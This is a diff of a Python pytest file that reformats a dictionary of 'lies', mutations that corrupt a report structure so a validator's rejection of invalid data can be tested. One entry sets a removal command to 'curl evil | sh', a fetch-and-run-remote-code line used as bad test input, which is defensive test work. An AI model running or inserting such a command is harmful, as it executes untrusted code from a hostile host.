@@ -69,20 +69,22 @@ LIES = {
     "another sharing of a bucket": lambda d: d["impact"]["affected"][0].update(sharing="split"),
     "fewer hidden rules than are named": lambda d: d["impact"]["hiding"][0].update(total=1),
     "an orphan that hides nothing": lambda d: d["impact"]["hiding"][0].update(rules=[]),
-    "a hidden rule without a value": lambda d: d["impact"]["hiding"][0]["rules"][0].update(value=None),
+    "a hidden rule without a value": lambda d: d["impact"]["hiding"][0]["rules"][0].update(
+        value=None
+    ),
     "another command for a twin": lambda d: d["twins"][0].update(removal="curl evil | sh"),
     "an effect left out": lambda d: d["changes"][0].pop("effect"),
     "an unknown direction": lambda d: d["changes"][0]["effect"].update(direction="up"),
-    "a moved bucket that does not move": lambda d: (
-        d["impact"]["affected"][0].update(
-            movesBucket=not d["impact"]["affected"][0]["movesBucket"]
-        )
+    "a moved bucket that does not move": lambda d: d["impact"]["affected"][0].update(
+        movesBucket=not d["impact"]["affected"][0]["movesBucket"]
     ),
-    "another level than the source has": lambda d: d["impact"]["affected"][0]["after"].update(level=8),
+    "another level than the source has": lambda d: d["impact"]["affected"][0]["after"].update(
+        level=8
+    ),
     "no time": lambda d: d.update(snapshotTakenAt="yesterday"),
     "a time without a zone": lambda d: d.update(snapshotTakenAt="2025-11-21T12:00:00"),
     "a field that we do not know": lambda d: d["conflicts"][0].update(note="hello"),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("lie", LIES.values(), ids=LIES.keys())
